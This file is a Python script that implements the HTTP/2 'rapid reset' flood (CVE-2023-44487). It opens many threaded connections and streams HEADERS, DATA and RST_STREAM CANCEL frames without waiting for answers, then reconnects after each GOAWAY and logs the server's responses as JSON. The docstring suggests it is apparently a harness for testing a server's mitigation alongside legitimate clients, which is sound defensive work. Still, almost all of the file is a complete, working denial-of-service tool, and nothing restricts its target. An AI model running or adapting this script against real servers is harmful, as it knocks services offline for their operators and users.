"""rapidreset.py - the HTTP/2 "rapid reset" pattern (CVE-2023-44487) against
a cleartext HTTP/2 server (prior knowledge): on each connection, streams of
HEADERS, DATA (END_STREAM) and RST_STREAM (CANCEL) as fast as the socket
takes them, never waiting for an answer; when the server closes the
connection (GOAWAY or EOF), a new one, until the time is up.

Run as its own process, so that the test's legitimate clients do not share
its interpreter lock:

  python3 rapidreset.py HOST PORT SECONDS CONNECTIONS PATH TAG

Prints one JSON object: per connection, the streams sent, whether and when
the server closed it (ms after its first stream), the GOAWAY's last stream
id and error code. Each stream's body is a Piriod event whose object_id is
"<TAG>-<connection>-<stream id>", so that the records written can be traced
back to their stream.
"""
import json
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


def literal(name, value):
    """HPACK literal without indexing, new name: no state, so one header
    block serves every stream."""
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def header_block(path, length):
    return (b"\x83"  # :method POST (static 3)
            + b"\x86"  # :scheme http (static 6)
            + literal(":path", path) + literal(":authority", "127.0.0.1")
            + literal("content-type", "application/json")
            + literal("content-length", str(length)))


class Frames:
    """Reads what the server sends; notes a GOAWAY or the end."""

    def __init__(self):
        self.buf = b""
        self.goaway = None  # (last stream id, error code)
        self.closed = False

    def feed(self, data):
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            ftype, payload = self.buf[3], self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            if ftype == GOAWAY and self.goaway is None and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & 0x7FFFFFFF, code)


def attack_one(host, port, deadline, index, path, tag, batch=50):
    out = {"connection": index, "streams": 0, "closed_by_server": False,
           "closed_after_ms": None, "goaway_last_stream": None, "goaway_error": None}
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    sock.setblocking(False)
    rd = Frames()
    sid, start, pending, send_failed = 1, None, b"", False
    try:
        while time.monotonic() < deadline:
            if not pending:
                chunks = []
                for _ in range(batch):
                    body = json.dumps({"event": "attack.reset",
                                       "object_id": f"{tag}-{index}-{sid}"}).encode()
                    chunks.append(frame(HEADERS, END_HEADERS, sid, header_block(path, len(body))))
                    chunks.append(frame(DATA, END_STREAM, sid, body))
                    chunks.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
                    sid += 2
                pending = b"".join(chunks)
                out["streams"] += batch
                if start is None:
                    start = time.monotonic()
            r, w, _ = select.select([sock], [sock], [], 0.05)
            if r:
                try:
                    rd.feed(sock.recv(1 << 16))
                except (ConnectionResetError, BrokenPipeError):
                    rd.closed = True
            if rd.goaway is not None or rd.closed:
                break
            if w:
                try:
                    pending = pending[sock.send(pending):]
                except BlockingIOError:
                    pass
                except (ConnectionResetError, BrokenPipeError):
                    send_failed = True
                    break  # what the server sent before may still be read
        # the GOAWAY and the close that follows it
        if (rd.goaway is not None or send_failed) and not rd.closed:
            until = time.monotonic() + 2
            while not rd.closed and time.monotonic() < until:
                if select.select([sock], [], [], 0.05)[0]:
                    try:
                        rd.feed(sock.recv(1 << 16))
                    except (ConnectionResetError, BrokenPipeError):
                        rd.closed = True
    finally:
        sock.close()
    if rd.goaway is not None or rd.closed:
        out["closed_by_server"] = True
        out["closed_after_ms"] = round((time.monotonic() - start) * 1000, 1)
    if rd.goaway is not None:
        out["goaway_last_stream"], out["goaway_error"] = rd.goaway
    return out


def attack(host, port, seconds, connections, path, tag):
    deadline = time.monotonic() + seconds
    results, lock = [], threading.Lock()
    counter = iter(range(1 << 30))

    def run():
        while time.monotonic() < deadline:
            with lock:
                i = next(counter)
            try:
                r = attack_one(host, port, deadline, i, path, tag)
            except OSError as e:
                r = {"connection": i, "error": str(e)}
                time.sleep(0.01)
            with lock:
                results.append(r)

    ts = [threading.Thread(target=run) for _ in range(connections)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return sorted(results, key=lambda r: r["connection"])


if __name__ == "__main__":
    h, p, secs, n, path, tag = sys.argv[1:7]
    print(json.dumps(attack(h, int(p), float(secs), int(n), path, tag)))
